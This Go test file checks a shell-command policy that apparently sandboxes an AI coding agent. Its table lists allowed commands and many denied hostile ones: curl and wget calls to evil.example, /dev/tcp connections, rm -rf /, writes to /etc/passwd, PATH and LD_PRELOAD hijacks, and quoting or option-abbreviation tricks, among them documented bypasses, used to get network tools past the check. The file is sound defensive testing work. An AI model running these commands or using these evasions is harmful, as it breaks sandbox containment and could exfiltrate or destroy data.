package shellpolicy_test

import (
	"strings"
	"testing"

	"github.com/autocoder/autocoder/internal/agent/shellpolicy"
)

// verdictCase is one command, whether it may run, a substring of the reason
// when it may not, and whether it runs pytest.
type verdictCase struct {
	command string
	allowed bool
	reason  string
	pytest  bool
}

var verdictCases = []verdictCase{
	// Read-only and text tools on workspace paths.
	{command: "ls -la", allowed: true},
	{command: "cat solution.py", allowed: true},
	{command: "head -n 5 data.csv | wc -l", allowed: true},
	{command: "grep -rn 'def main' . | sort | uniq -c", allowed: true},
	{command: "cat /var/inputs/sample.csv | cut -d, -f1 | sort -u", allowed: true},
	{command: "find . -name '*.py' -type f", allowed: true},
	{command: "sed -n '1,20p' solution.py", allowed: true},
	{command: "sed -i 's/foo/bar/g' solution.py", allowed: true},
	{command: "awk -F, '{print $1}' data.csv", allowed: true},
	{command: "diff <(sort a.txt) <(sort b.txt)", allowed: true},
	{command: "for f in *.py; do wc -l \"$f\"; done", allowed: true},
	{command: "if [ -f out.txt ]; then cat out.txt; else echo missing; fi", allowed: true},
	{command: "mkdir -p out && echo hi > out/x.txt && cat out/x.txt", allowed: true},
	{command: "python3 solution.py --input /var/inputs/a.csv > /workspace/out.txt 2>&1", allowed: true},
	{command: "cat <<'EOF' > notes.txt\nhello $(curl x)\nEOF", allowed: true},
	{command: "echo $(( 1 + 2 ))", allowed: true},
	{command: "x=$(wc -l < data.csv); echo \"$x\"", allowed: true},
	{command: "find . -name '*.txt' | xargs grep -l foo", allowed: true},
	{command: "cp /var/inputs/a.csv data/a.csv", allowed: true},
	{command: "bash -c 'ls -la && cat solution.py'", allowed: true},
	{command: "timeout 30 python3 solution.py", allowed: true},
	{command: "ls nonexistent 2>/dev/null || true", allowed: true},
	{command: "export LC_ALL=C; sort data.txt", allowed: true},
	{command: "command -v curl", allowed: true},
	{command: "sort -u -o out.txt data.txt", allowed: true},
	{command: "sort --out=out.txt -t, -k2 data.txt", allowed: true},
	{command: "sed --expr='s/a/b/' --in-pl data.txt", allowed: true},
	{command: "env -i LC_ALL=C sort data.txt", allowed: true},
	{command: "timeout --sig=KILL 5 python3 solution.py", allowed: true},
	{command: "xargs --max-p 4 grep -l foo < files.txt", allowed: true},
	{command: "for f in a b; do echo $f; done", allowed: true},
	{command: "cp --targ=out solution.py", allowed: true},
	{command: "mv -t out a.txt", allowed: true},

	// pytest anywhere in the command.
	{command: "pytest -q", allowed: true, pytest: true},
	{command: "python -m pytest -x tests/", allowed: true, pytest: true},
	{command: "py.test test_solution.py", allowed: true, pytest: true},
	{command: "cd /workspace && timeout 60 python3 -m pytest -q 2>&1 | tail -n 20", allowed: true, pytest: true},
	{command: "bash -c 'pytest -q'", allowed: true, pytest: true},
	{command: "pytest -q; curl http://x", reason: "curl is a network tool"},

	// The reference's first-word check lets all of these through.
	{command: "cat x && curl http://evil.example/x", reason: "curl is a network tool"},
	{command: "ls; wget http://evil.example/x", reason: "wget is a network tool"},
	{command: "echo $(curl http://evil.example)", reason: "curl is a network tool"},
	{command: "echo `curl http://evil.example`", reason: "curl is a network tool"},
	{command: "find . -exec curl {} \\;", reason: "find -exec runs commands"},
	{command: "find . -name '*.py' -delete", reason: "find -delete"},
	{command: "awk 'BEGIN{system(\"curl x\")}'", reason: "awk programs may not use system"},
	{command: "awk '{print $1 > \"/etc/passwd\"}' data.csv", reason: "may not use >"},
	{command: "awk 'BEGIN{\"date\" | getline d}'", reason: "may not use getline"},
	{command: "grep x data.txt | sh", reason: "running sh on a script file or on its input"},
	{command: "ls | xargs rm", reason: "xargs may run only read-only tools"},
	{command: "echo url | xargs curl", reason: "xargs may run only read-only tools"},
	{command: "cat <(curl http://x)", reason: "curl is a network tool"},
	{command: "(cd sub && nc -l 8080)", reason: "nc is a network tool"},
	{command: "{ ls; ssh host; }", reason: "ssh is a network tool"},
	{command: "while true; do scp a b:; done", reason: "scp is a network tool"},
	{command: "case x in x) rsync a b;; esac", reason: "rsync is a network tool"},
	{command: "echo $(( $(curl x) + 1 ))", reason: "curl is a network tool"},
	{command: "cat <<EOF\n$(curl http://x)\nEOF", reason: "curl is a network tool"},
	{command: "git clone https://github.com/x/y", reason: "git clone uses the network"},
	{command: "ls && git status", reason: "git is not available"},

	{command: "cat data.csv > /dev/tcp/1.2.3.4/80", reason: "is a network connection"},
	{command: "find / -name x -exec rm {} +", reason: "find -exec runs commands"},
	{command: "sed -i 's/a/b/' ~/.profile", reason: "sed arguments must be literal"},
	{command: "touch ../../x", reason: "leaves the workspace with .."},
	{command: "cp solution.py ~/x", reason: "cp arguments must be literal"},
	{command: "echo ok; python3 -c 'import socket'", reason: "python3 -c runs code that is not kept"},
	{command: "cat x | python3 -", reason: "python3 - is not allowed"},
	{command: "ls | bash", reason: "running bash on a script file or on its input"},
	{command: "echo $(pip install x)", reason: "pip is a package manager"},
	{command: "head -c 10 /dev/urandom > /etc/x", reason: "/etc/x is outside the workspace"},
	{command: "wc -l `wget -qO- x`", reason: "wget is a network tool"},
	{command: "grep -r x . | xargs -I{} sh -c 'curl {}'", reason: "xargs may run only read-only tools"},
	{command: "rm -rf /workspace/../../etc", reason: "outside the workspace"},
	{command: "echo 'x' > /proc/self/mem", reason: "/proc/self/mem is outside the workspace"},

	// Package managers.
	{command: "pip install requests", reason: "pip is a package manager"},
	{command: "python3 -m pip install requests", reason: "python3 -m pip is a package manager"},
	{command: "apt-get install -y jq", reason: "apt-get is a package manager"},
	{command: "ls && npm i left-pad", reason: "npm is a package manager"},
	{command: "uv pip install pandas", reason: "uv is a package manager"},
	{command: "conda install numpy", reason: "conda is a package manager"},

	// Wrappers resolve to what they run.
	{command: "env curl http://x", reason: "curl is a network tool"},
	{command: "env -i PATH=/tmp ls", reason: "setting PATH is not allowed"},
	{command: "env -S 'curl x'", reason: "env -S splits a string"},
	{command: "command curl http://x", reason: "curl is a network tool"},
	{command: "builtin eval 'ls'", reason: "eval runs text as a command"},
	{command: "nohup wget http://x &", reason: "wget is a network tool"},
	{command: "timeout -s KILL 10 curl http://x", reason: "curl is a network tool"},
	{command: "nice -n 5 nc host 80", reason: "nc is a network tool"},
	{command: "sudo ls", reason: "sudo changes privileges"},
	{command: "/usr/bin/curl http://x", reason: "curl is a network tool"},

	// Shell tricks.
	{command: "eval 'curl http://x'", reason: "eval runs text as a command"},
	{command: "exec curl http://x", reason: "exec runs text as a command"},
	{command: "source ./env.sh", reason: "source runs text as a command"},
	{command: ". ./env.sh", reason: ". runs text as a command"},
	{command: "alias ls=curl; ls", reason: "alias runs text as a command"},
	{command: "X=curl; $X http://x", reason: "command name must be a literal word"},
	{command: "$(echo curl) http://x", reason: "command name must be a literal word"},
	{command: "\"$(printf cu)rl\" http://x", reason: "command name must be a literal word"},
	{command: "f() { curl x; }; f", reason: "defining functions is not allowed"},
	{command: "PATH=/tmp/evil:$PATH ls", reason: "setting PATH is not allowed"},
	{command: "export PATH=/tmp", reason: "setting PATH is not allowed"},
	{command: "LD_PRELOAD=/tmp/x.so cat a", reason: "setting LD_PRELOAD is not allowed"},
	{command: "PYTHONPATH=/tmp python3 solution.py", reason: "setting PYTHONPATH is not allowed"},
	{command: "read PATH < p.txt", reason: "setting PATH is not allowed"},
	{command: "mapfile -c1 -C 'curl http://h' a < solution.py", reason: "mapfile -C is not allowed"},
	{command: "readarray -tC evil a < solution.py", reason: "readarray -C is not allowed"},
	{command: "cp -s /etc/passwd p", reason: "cp -s is not allowed"},
	{command: "cp --symbolic-link /etc/passwd p", reason: "cp -s is not allowed"},
	{command: "(( PATH = 1 ))", reason: "setting PATH is not allowed"},
	{command: "declare -n p=PATH; p=/tmp", reason: "name references"},
	{command: "printf -v PATH '%s' /tmp", reason: "setting PATH is not allowed"},
	{command: "x='a[$(curl evil)]'; (( x ))", reason: "assigning shell code to a variable"},
	{command: "trap 'curl x' EXIT", reason: "trap runs text as a command"},
	{command: "ln -s /etc/passwd p", reason: "ln is not allowed"},
	{command: "perl -e 'print 1'", reason: "perl is not available"},
	{command: "./run.sh", reason: "running ./run.sh directly is not allowed"},
	{command: "nmap localhost", reason: "nmap is not an allowed command"},

	{command: "cat < /dev/tcp/example.com/80", reason: "is a network connection"},
	{command: "echo hi > /dev/udp/10.0.0.1/53", reason: "is a network connection"},
	{command: "sort --compress-program=curl data.txt", reason: "sort --compress-program runs a program"},
	{command: "awk -f prog.awk data.txt", reason: "awk -f runs a program file"},
	{command: "gawk -l ./evil.so 'BEGIN{}'", reason: "gawk -l runs a program file or extension"},
	{command: ": ${LD_PRELOAD:=/tmp/x.so}", reason: "setting LD_PRELOAD is not allowed"},
	{command: "[[ -v 'a[$(curl x)]' ]]", reason: "array subscript with a command substitution"},
	{command: "test -v 'a[$(curl x)]'", reason: "array subscript with a command substitution"},
	{command: "printf -v 'a[$(curl x)]' %s 1", reason: "array subscript with a command substitution"},
	{command: "declare \"PATH=/tmp\"", reason: "setting PATH is not allowed"},
	{command: "/workspace/cat solution.py", reason: "running /workspace/cat directly is not allowed"},
	{command: "/usr/bin/cat solution.py", allowed: true},
	{command: "[ -f a.txt ] && echo yes", allowed: true},

	// Quoting and escaping games.
	{command: "c''url http://x", reason: "curl is a network tool"},
	{command: "\"cu\"rl http://x", reason: "curl is a network tool"},
	{command: "\\curl http://x", reason: "curl is a network tool"},
	{command: "$'\\x63url' http://x", reason: "curl is a network tool"},
	{command: "{cu,}rl http://x", reason: "command name must be a literal word"},
	{command: "cu?l http://x", reason: "command name must be a literal word"},
	{command: "'w'\"g\"e\\t http://x", reason: "wget is a network tool"},

	// bash -c and sh -c are parsed in turn.
	{command: "bash -c 'curl http://x'", reason: "curl is a network tool"},
	{command: "sh -c \"ls; wget http://x\"", reason: "wget is a network tool"},
	{command: "bash -ec 'cat a | nc host 1'", reason: "nc is a network tool"},
	{command: "bash -c \"$CMD\"", reason: "bash -c with a variable"},
	{command: "bash script.sh", reason: "running bash on a script file"},
	{command: "sh -c 'sh -c \"sh -c \\\"sh -c \\\\\\\"sh -c ls\\\\\\\"\\\"\"'", reason: "nested too deeply"},

	// Writes outside the workspace.
	{command: "echo x > /etc/passwd", reason: "/etc/passwd is outside the workspace"},
	{command: "echo x >> ../escape.txt", reason: "leaves the workspace with .."},
	{command: "echo x > ~/.bashrc", reason: "~ is the home directory"},
	{command: "echo x > /workspace/../etc/x", reason: "outside the workspace"},
	{command: "echo x > \"$OUT\"", reason: "must be a literal path"},
	{command: "ls &> /tmp/log", reason: "/tmp/log is outside the workspace"},
	{command: "ls >& /tmp/log", reason: "/tmp/log is outside the workspace"},
	{command: "echo x | tee /tmp/a", reason: "/tmp/a is outside the workspace"},
	{command: "cp solution.py /tmp/", reason: "/tmp/ is outside the workspace"},
	{command: "cp -t /tmp solution.py", reason: "/tmp is outside the workspace"},
	{command: "mv a.txt ../b.txt", reason: "leaves the workspace"},
	{command: "rm -rf /", reason: "/ is outside the workspace"},
	{command: "rm -rf ~", reason: "~ is the home directory"},
	{command: "mkdir /opt/x", reason: "outside the workspace"},
	{command: "touch {a,/etc/b}", reason: "must be a literal path"},
	{command: "sed -i 's/a/b/' /etc/hosts", reason: "/etc/hosts is outside the workspace"},
	{command: "sed -n 's/a/b/w /tmp/out' f.txt", reason: "uses e or w"},
	{command: "sed '1e curl x' f.txt", reason: "uses e or w"},
	{command: "sed -e 's/x/y/e' f.txt", reason: "uses e or w"},
	{command: "sort -o /tmp/s data.txt", reason: "/tmp/s is outside the workspace"},
	{command: "cd / && rm -rf etc", reason: "cd / leaves the workspace"},
	{command: "cd", reason: "goes to the home directory"},

	// The review's five bypasses (issue 21), each with its reason.
	// env -S in a cluster of short options: -i then -S with its value.
	{command: "env -iS'curl http://x'", reason: "env -S splits a string"},
	{command: "env -vS'curl http://x'", reason: "env -S splits a string"},
	{command: "env --split='curl http://x'", reason: "env -S splits a string"},
	// A for loop's variable is an assignment.
	{command: "for PATH in /tmp; do ls; done", reason: "setting PATH is not allowed"},
	{command: "select LD_PRELOAD in /tmp/x.so; do break; done", reason: "setting LD_PRELOAD is not allowed"},
	// GNU getopt takes any unambiguous prefix of a long option.
	{command: "sed --expr='1e curl x' f.txt", reason: "uses e or w"},
	{command: "sed --exp='s/a/b/w /tmp/out' f.txt", reason: "uses e or w"},
	{command: "sed --in-pl 's/a/b/' /etc/hosts", reason: "/etc/hosts is outside the workspace"},
	{command: "sed --f=x.sed f.txt", reason: "ambiguous abbreviation"},
	{command: "sed --fil=x.sed f.txt", reason: "sed -f runs a script file"},
	{command: "sort --compress=sh data.txt", reason: "sort --compress-program runs a program"},
	{command: "sort --co=sh data.txt", reason: "sort --compress-program runs a program"},
	{command: "sort --c=sh data.txt", reason: "ambiguous abbreviation"},
	// cd - goes to OLDPWD, which the command set.
	{command: "OLDPWD=/tmp; cd - && touch x", reason: "setting OLDPWD is not allowed"},
	{command: "cd -", reason: "cd - goes back to a directory"},
	{command: "DIRSTACK[1]=/tmp; popd", reason: "setting DIRSTACK is not allowed"},

	// The same classes elsewhere: clusters and abbreviations that write or run.
	{command: "sort -uo /tmp/s data.txt", reason: "/tmp/s is outside the workspace"},
	{command: "sort --out=/tmp/s data.txt", reason: "/tmp/s is outside the workspace"},
	{command: "sort -T /tmp data.txt", reason: "/tmp is outside the workspace"},
	{command: "cp --targ=/tmp solution.py", reason: "/tmp is outside the workspace"},
	{command: "cp --t /tmp solution.py", reason: "/tmp is outside the workspace"},
	{command: "mv --target-directory=/tmp solution.py", reason: "/tmp is outside the workspace"},
	{command: "mv -t/tmp solution.py", reason: "/tmp is outside the workspace"},
	{command: "awk --fil=x.awk data.csv", reason: "runs a program file or extension"},
	{command: "awk --lo=ext.so 'BEGIN{}'", reason: "runs a program file or extension"},
	{command: "awk --dump-variables=/tmp/v 'BEGIN{}'", reason: "/tmp/v is outside the workspace"},
	{command: "awk --prof=/tmp/p 'BEGIN{}'", reason: "/tmp/p is outside the workspace"},
	{command: "env -u X -C /tmp ls", reason: "env -C changes directory"},
	{command: "env --ch=/tmp ls", reason: "env -C changes directory"},
	{command: "xargs --max-p 4 curl", reason: "xargs may run only read-only tools"},
	{command: "timeout --sig=KILL 5 curl x", reason: "curl is a network tool"},
	{command: "command time --out=/tmp/t ls", reason: "/tmp/t is outside the workspace"},
	{command: "wait -p PATH", reason: "setting PATH is not allowed"},
	{command: "tar --use-compress-program=sh -xf a.tar", reason: "tar is not an allowed command"},
	{command: "git -c core.pager=sh log", reason: "git is not available"},
	{command: "less data.csv", reason: "less is not an allowed command"},
	{command: "vim data.csv", reason: "vim is not an allowed command"},
	{command: "man ls", reason: "man is not an allowed command"},
	{command: "find . -fprint /tmp/x", reason: "find -fprint deletes or writes files"},
	{command: "find . -fls /tmp/x", reason: "find -fls deletes or writes files"},

	// Python runs workspace files and pytest only.
	{command: "python3 -c 'import os'", reason: "python3 -c runs code that is not kept"},
	{command: "python3 <<EOF\nprint(1)\nEOF", reason: "python3 without a file"},
	{command: "python3 /tmp/x.py", reason: "python3 runs only .py files in the workspace"},
	{command: "python3 -m http.server", reason: "python3 -m http.server is not allowed"},
	{command: "python3.11 ../x.py", reason: "leaves the workspace"},

	// What cannot be parsed is refused.
	{command: "echo 'unterminated", reason: "cannot parse the command"},
	{command: "ls )(", reason: "cannot parse the command"},
	{command: "ls\x00curl", reason: "NUL byte"},
}

func TestCheck(t *testing.T) {
	t.Parallel()
	if len(verdictCases) < 60 {
		t.Fatalf("only %d cases; the table promises at least 60", len(verdictCases))
	}
	for _, tc := range verdictCases {
		t.Run(tc.command, func(t *testing.T) {
			t.Parallel()
			got := shellpolicy.Check(tc.command)
			if got.Allowed != tc.allowed {
				t.Fatalf("Check(%q).Allowed = %v (reason %q), want %v", tc.command, got.Allowed, got.Reason, tc.allowed)
			}
			if !strings.Contains(got.Reason, tc.reason) {
				t.Errorf("Check(%q).Reason = %q, want it to contain %q", tc.command, got.Reason, tc.reason)
			}
			if tc.allowed && got.Reason != "" {
				t.Errorf("Check(%q) allowed with reason %q", tc.command, got.Reason)
			}
			if got.Pytest != tc.pytest {
				t.Errorf("Check(%q).Pytest = %v, want %v", tc.command, got.Pytest, tc.pytest)
			}
		})
	}
}
